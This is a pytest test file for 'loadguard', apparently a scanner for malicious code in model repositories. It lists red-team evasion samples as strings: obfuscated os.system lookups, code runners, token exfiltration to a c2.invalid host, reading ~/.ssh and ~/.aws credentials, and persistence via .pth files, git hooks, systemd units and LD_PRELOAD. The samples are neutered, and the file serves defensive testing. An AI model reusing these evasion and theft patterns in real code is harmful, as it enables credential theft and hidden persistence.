"""A second red-team round, written against the analyzer's code: each sample must reach >= high,
reachable from the entry point, with the rule the plain form triggers.

Grouped by threat class (how a call is hidden, what runs code without
``exec``, what runs without a call site, what a payload does), so a fix is
judged on the class and not on one spelling. Harmless if executed: commands
are ``true``, hosts are ``.invalid`` or loopback, writes go nowhere real.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from loadguard.engine import scan_snapshot
from loadguard.model import Severity
from loadguard.sources.local import snapshot_from_folder
from native_helpers import scan

MakeRepo = Callable[[dict[str, object]], Path]
CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
MODEL = "\nclass XModel:\n    def __init__(self, *a, **k):\n        pass\n"

# sample -> a rule the payload must be reported under (at >= high, reachable)
NAME_HIDING = {
    "namespace_get": ("import builtins\nbuiltins.__dict__.get('ex'+'ec')('x=1')\n", "LG-OBF-003"),
    "sys_modules_get": ("import sys\nsys.modules.get('os').system('true')\n", "LG-CMD-001"),
    "reduce_getattr": (
        "import functools\nfunctools.reduce(getattr, ['system'], __import__('os'))('true')\n",
        "LG-CMD-001",
    ),
    "dunder_getattribute": ("import os\nos.__getattribute__('system')('true')\n", "LG-CMD-001"),
    "object_getattribute": (
        "import os\nobject.__getattribute__(os, 'system')('true')\n",
        "LG-CMD-001",
    ),
    "dunder_call": ("import os\nos.system.__call__('true')\n", "LG-CMD-001"),
    "dict_member": ("import os\nd = {'run': os.system}\nd['run']('true')\n", "LG-CMD-001"),
    "list_member": ("import os\nfs = [print, os.system]\nfs[-1]('true')\n", "LG-CMD-001"),
    "stored_member": ("import os\nd = {}\nd['r'] = os.system\nd['r']('true')\n", "LG-CMD-001"),
    "inline_container": ("import os\n{'a': os.system}['a']('true')\n", "LG-CMD-001"),
    "class_attribute": ("import os\nclass C:\n    run = os.system\nC.run('true')\n", "LG-CMD-001"),
    "instance_attribute": (
        "import os\nclass C:\n    def __init__(self):\n        self.r = os.system\n"
        "    def go(self):\n        self.r('true')\nC().go()\n",
        "LG-CMD-001",
    ),
    "pydoc_locate": ("import pydoc\npydoc.locate('os.system')('true')\n", "LG-CMD-001"),
    "pkgutil_resolve_name": (
        "import pkgutil\npkgutil.resolve_name('os:system')('true')\n",
        "LG-OBF-003",
    ),
    "conditional_alias": (
        "import os\nrun = print if False else os.system\nrun('true')\n",
        "LG-CMD-001",
    ),
    "or_alias": ("import os\n(None or os.system)('true')\n", "LG-CMD-001"),
    "returned_callable": (
        "import os\ndef pick():\n    return os.system\npick()('true')\n",
        "LG-CMD-001",
    ),
    "ctypes_getattr": (
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\ngetattr(libc, 'system')(b'true')\n",
        "LG-EXEC-009",
    ),
}
CODE_RUNNERS = {
    "module_docstring": ('"""\nimport os\nos.system(\'true\')\n"""\nexec(__doc__)\n', "LG-CMD-001"),
    "callback_looked_up": (
        "import threading, os\n"
        "threading.Thread(target=getattr(os, 'sys' + 'tem'), args=('true',)).start()\n",
        "LG-CMD-001",
    ),
    "executor_submit_looked_up": (
        "import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "ThreadPoolExecutor(1).submit(getattr(os, 'system'), 'true')\n",
        "LG-CMD-001",
    ),
    "timeit": (
        "import timeit\ntimeit.timeit(\"__import__('os').system('true')\", number=1)\n",
        "LG-CMD-001",
    ),
    "interactive_interpreter": (
        "import code\ncode.InteractiveInterpreter().runsource(\"__import__('os').system('true')\")\n",
        "LG-CMD-001",
    ),
    "console_instance": (
        "import code\nc = code.InteractiveConsole()\nc.push(\"__import__('os').system('true')\")\n",
        "LG-CMD-001",
    ),
    "cprofile": (
        "import cProfile\ncProfile.run(\"__import__('os').system('true')\")\n",
        "LG-CMD-001",
    ),
    "pdb": ("import pdb\npdb.run(\"__import__('os').system('true')\")\n", "LG-CMD-001"),
    "doctest_examples": (
        'import doctest\ndef f():\n    """\n    >>> __import__("os").system("true")\n    0\n    """\n'
        "doctest.run_docstring_examples(f, {})\n",
        "LG-CMD-001",
    ),
}
PAYLOADS = {
    "token_getter_sent": (
        "from huggingface_hub import HfFolder\nimport requests\nt = HfFolder.get_token()\n"
        "requests.post('https://c2.invalid', data={'t': t})\n",
        "LG-CRED-004",
    ),
    "token_in_url": (
        "import huggingface_hub, urllib.request\n"
        "urllib.request.urlopen('https://c2.invalid/?' + huggingface_hub.get_token())\n",
        "LG-CRED-004",
    ),
    "ssh_dir_enumerated": (
        "import glob, os\nkeys = glob.glob(os.path.expanduser('~/.ssh/*'))\n",
        "LG-CRED-001",
    ),
    "pathlib_expanduser_division": (
        "from pathlib import Path\nd = (Path('~').expanduser() / '.aws' / 'credentials').read_text()\n",
        "LG-CRED-001",
    ),
    "pathlib_home_joinpath": (
        "from pathlib import Path\nd = Path.home().joinpath('.aws', 'credentials').read_text()\n",
        "LG-CRED-001",
    ),
    "ssh_dir_archived": (
        "import shutil, os\nshutil.make_archive('/tmp/x', 'zip', os.path.expanduser('~/.ssh'))\n",
        "LG-CRED-001",
    ),
    "reduce_gadget": (
        "import os, pickle\nclass E:\n    def __reduce__(self):\n"
        "        return (getattr(__import__('os'), 'system'), ('true',))\n"
        "pickle.loads(pickle.dumps(E()))\n",
        "LG-CMD-001",
    ),
    "copyreg_reducer": (
        "import copyreg, os, pickle\nclass E:\n    pass\n"
        "copyreg.pickle(E, lambda e: (os.system, ('true',)))\npickle.loads(pickle.dumps(E()))\n",
        "LG-CMD-001",
    ),
    "pythonapi_run_string": (
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"__import__('os').system('true')\")\n",
        "LG-EXEC-009",
    ),
    "cdll_subscript": ("import ctypes\nctypes.cdll['libc.so.6'].system(b'true')\n", "LG-EXEC-009"),
    "cdll_attribute_alias": (
        "import ctypes\nlibc = ctypes.cdll.libc\nlibc.system(b'true')\n",
        "LG-EXEC-009",
    ),
    "executable_mapping": (
        "import mmap\nbuf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)\n",
        "LG-EXEC-009",
    ),
    "installed_package_file": (
        "import torch, os\np = os.path.join(os.path.dirname(torch.__file__), 'serialization.py')\n"
        "open(p, 'a').write('\\n')\n",
        "LG-PERS-003",
    ),
    "purelib_pth": (
        "import sysconfig, os\np = os.path.join(sysconfig.get_paths()['purelib'], 'x.pth')\n"
        "open(p, 'w').write('import os')\n",
        "LG-PERS-003",
    ),
    "systemd_unit_path_object": (
        "from pathlib import Path\np = Path.home() / '.config' / 'systemd' / 'user' / 'x.service'\n"
        "p.write_text('[Service]')\n",
        "LG-PERS-001",
    ),
    "setattr_loader": (
        "import torch\ndef f(*a, **k):\n    return None\nsetattr(torch, 'load', f)\n",
        "LG-PERS-004",
    ),
    "serialization_load_replaced": (
        "from torch import serialization\nserialization.load = lambda *a, **k: None\n",
        "LG-PERS-004",
    ),
    "shell_kwargs_literal": (
        "import subprocess\nsubprocess.Popen(**{'args': 'true', 'shell': True})\n",
        "LG-CMD-002",
    ),
    "shlex_split_shell": (
        "import subprocess, shlex\nsubprocess.Popen(shlex.split('sh -c true'))\n",
        "LG-CMD-002",
    ),
    "shell_behind_env": (
        "import subprocess\nsubprocess.run(['/usr/bin/env', 'bash', '-c', 'true'])\n",
        "LG-CMD-002",
    ),
    "shell_combined_flags": (
        "import subprocess\nsubprocess.run(['bash', '-lc', 'true'])\n",
        "LG-CMD-002",
    ),
    "shell_behind_timeout": (
        "import subprocess\nsubprocess.Popen(['timeout', '5', 'sh', '-c', 'true'])\n",
        "LG-CMD-002",
    ),
    "powershell_encoded": (
        "import subprocess\nsubprocess.Popen(['powershell', '-EncodedCommand', 'dAByAHUAZQA='])\n",
        "LG-CMD-002",
    ),
    "loop_subprocess_shell": (
        "import asyncio\nasync def m():\n    loop = asyncio.get_running_loop()\n"
        "    await loop.subprocess_shell(asyncio.SubprocessProtocol, 'true')\nasyncio.run(m())\n",
        "LG-CMD-002",
    ),
}
# Places that run code later, beyond shell rc files and cron: tool start-up files,
# package-index configuration, PATH directories, and the caches other loaders import.
PERSISTENCE = {
    "ipython_startup": (
        "import os\np = os.path.expanduser('~/.ipython/profile_default/startup/00-x.py')\n"
        "open(p, 'w').write('import os')\n",
        "LG-PERS-001",
    ),
    "git_hook": (
        "import os\nopen(os.path.join(os.getcwd(), '.git/hooks/post-checkout'), 'w').write('')\n",
        "LG-PERS-001",
    ),
    "pip_conf": (
        "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w')"
        ".write('[global]\\nindex-url = http://x.invalid')\n",
        "LG-PERS-001",
    ),
    "path_directory": (
        "import os\nopen(os.path.expanduser('~/.local/bin/python3'), 'w').write('#!/bin/sh')\n",
        "LG-PERS-001",
    ),
    "hf_modules_cache": (
        "import os\nfrom transformers.utils import HF_MODULES_CACHE\n"
        "open(os.path.join(HF_MODULES_CACHE, 'transformers_modules', 'x.py'), 'w').write('')\n",
        "LG-PERS-003",
    ),
    "torch_hub_cache": (
        "import torch, os\np = os.path.join(torch.hub.get_dir(), 'x_main', 'hubconf.py')\n"
        "open(p, 'w').write('import os')\n",
        "LG-PERS-003",
    ),
    "ld_preload": ("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n", "LG-PERS-004"),
}
# A name built from literals by means folding does not model is still a constant
# the code hides: getattr(os, <that>) ranks like getattr(os, "system").
LITERAL_NAMES = {
    "str_of_bytes": "getattr(os, str(b'system', 'ascii'))('true')\n",
    "caesar_by_ord": "getattr(os, ''.join(chr(ord(c) - 1) for c in 'tztufn'))('true')\n",
    "unbound_str_join": "getattr(os, str.join('', ['sys', 'tem']))('true')\n",
    "dunder_add": "getattr(os, 'sys'.__add__('tem'))('true')\n",
    "operator_add": "import operator\ngetattr(os, operator.add('sys', 'tem'))('true')\n",
    "int_to_bytes": "getattr(os, (0x73797374656D).to_bytes(6, 'big').decode())('true')\n",
    "indexed_chars": "k = 'metsys'\ngetattr(os, ''.join(k[i] for i in range(5, -1, -1)))('true')\n",
    "module_name": "__import__(''.join(chr(ord(c) - 1) for c in 'pt')).system('true')\n",
    "inner_slice": "getattr(os, 'xsystemx'[1:-1])('true')\n",
    "step_slice": "getattr(os, 'sxyxsxtxexmx'[::2])('true')\n",
}
NAME_HIDING.update(
    {f"literal_{k}": ("import os\n" + v, "LG-OBF-003") for k, v in LITERAL_NAMES.items()}
)
CASES = {**NAME_HIDING, **CODE_RUNNERS, **PAYLOADS, **PERSISTENCE}


def _found(root: Path, path: str, rule: str) -> list[tuple[str, str, bool | None]]:
    result = scan_snapshot(snapshot_from_folder(root))
    return [
        (f.rule_id, f.severity.label, f.reachable)
        for f in result.findings
        if f.location.path == path and f.rule_id == rule and f.severity >= Severity.HIGH
    ]


@pytest.mark.parametrize("name", sorted(CASES))
def test_unseen_evasion_found_high_and_reachable(name: str, make_repo: MakeRepo) -> None:
    source, rule = CASES[name]
    root = make_repo({"config.json": CONFIG, "modeling_x.py": source + MODEL})
    found = _found(root, "modeling_x.py", rule)
    assert found, scan(source)
    assert any(reachable for _, _, reachable in found), found


# Code Python runs without a call site in the repo: special methods of live objects.
_PAYLOAD = "        __import__('os').system('true')\n"
IMPLICIT = {
    "operator": "class T:\n    def __add__(self, o):\n" + _PAYLOAD + "T() + 1\n",
    "comparison_in_sort": "class T:\n    def __lt__(self, o):\n" + _PAYLOAD + "sorted([T(), T()])\n",
    "fspath": "import os\nclass T:\n    def __fspath__(self):\n" + _PAYLOAD + "os.path.exists(T())\n",
    "index": "class T:\n    def __index__(self):\n" + _PAYLOAD + "[1][T()]\n",
    "missing": "class D(dict):\n    def __missing__(self, k):\n" + _PAYLOAD + "D()['x']\n",
    "class_getitem": "class G:\n    def __class_getitem__(cls, k):\n" + _PAYLOAD + "x: G[int]\n",
    "metaclass_getitem": (
        "class M(type):\n    def __getitem__(cls, k):\n" + _PAYLOAD
        + "class B(metaclass=M):\n    pass\nB['x']\n"
    ),
    "module_getattr": "def __getattr__(name):\n" + _PAYLOAD.replace("        ", "    "),
}  # fmt: skip


# Repo functions called through a namespace lookup rather than by name.
_FUNCTION = "def pay():\n    __import__('os').system('true')\n"
NAMESPACE_CALLS = {
    "globals_item": _FUNCTION + "globals()['pa' + 'y']()\n",
    "own_module_getattr": _FUNCTION + "import sys\ngetattr(sys.modules[__name__], 'pay')()\n",
    "own_module_vars": _FUNCTION + "import sys\nvars(sys.modules[__name__])['pay']()\n",
}
IMPLICIT.update(NAMESPACE_CALLS)


@pytest.mark.parametrize("name", sorted(IMPLICIT))
def test_code_without_a_direct_call_site_is_reachable(name: str, make_repo: MakeRepo) -> None:
    root = make_repo({"config.json": CONFIG, "modeling_x.py": IMPLICIT[name] + MODEL})
    found = _found(root, "modeling_x.py", "LG-OBF-003") + _found(
        root, "modeling_x.py", "LG-CMD-001"
    )
    assert found and all(reachable for _, _, reachable in found), found


# What must stay below high: the benign shapes next to each new rule.
BENIGN = {
    "token_in_auth_header": (
        "import requests\nfrom huggingface_hub import get_token\n"
        "requests.post('https://huggingface.co/api/x', json={'p': 1},\n"
        "              headers={'Authorization': f'Bearer {get_token()}'})\n"
    ),
    "timeit_of_a_callable": "import timeit\ntimeit.timeit(lambda: sum(range(9)), number=3)\n",
    "split_tool_command": "import subprocess, shlex\nsubprocess.run(shlex.split('nvidia-smi -L'))\n",
    "package_file_read": (
        "import torch, os\nprint(os.path.join(os.path.dirname(torch.__file__), 'lib'))\n"
        "open(os.path.join(os.path.dirname(torch.__file__), 'version.py')).read()\n"
    ),
    "loader_table_by_variable": (
        "import torch, pickle\nLOADERS = {'pt': torch.load, 'pkl': pickle.load}\n"
        "def load(kind, f):\n    return LOADERS[kind](f, weights_only=True)\n"
    ),
    "conditional_builtin": "import sys\nout = print if sys.stdout else repr\nout('x')\n",
    "returns_a_path": "import os\ndef root():\n    return os.path.dirname(__file__)\nroot()\n",
    "hub_mirror": "import os\nos.environ['HF_ENDPOINT'] = 'https://hf-mirror.invalid'\n",
    "cache_read": (
        "import os\nfrom transformers.utils import HF_MODULES_CACHE\n"
        "print(os.listdir(os.path.join(HF_MODULES_CACHE, 'transformers_modules')))\n"
    ),
    "path_named_not_written": "import os\nprint(os.path.expanduser('~/.local/bin'))\n",
    "getattr_from_parameter": "import os\ndef f(name):\n    return getattr(os, 'x' + name)\n",
    "import_relative_to_package": "import importlib\nimportlib.import_module(__name__ + '.sub')\n",
    "reduce_of_own_class": (
        "class P:\n    def __init__(self, a):\n        self.a = a\n"
        "    def __reduce__(self):\n        return (self.__class__, (self.a,))\n"
    ),
    "shell_script_strict_mode": "import subprocess\nsubprocess.run(['bash', '-e', 'build.sh'])\n",
    "readonly_mapping": "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)\n",
    "forward_patched": (
        "import transformers\ndef fwd(self, x):\n    return x\n"
        "transformers.models.llama.modeling_llama.LlamaAttention.forward = fwd\n"
    ),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_neighbours_stay_below_high(name: str) -> None:
    loud = [(f.rule_id, f.message) for f in scan(BENIGN[name]) if f.severity >= Severity.HIGH]
    assert not loud, loud
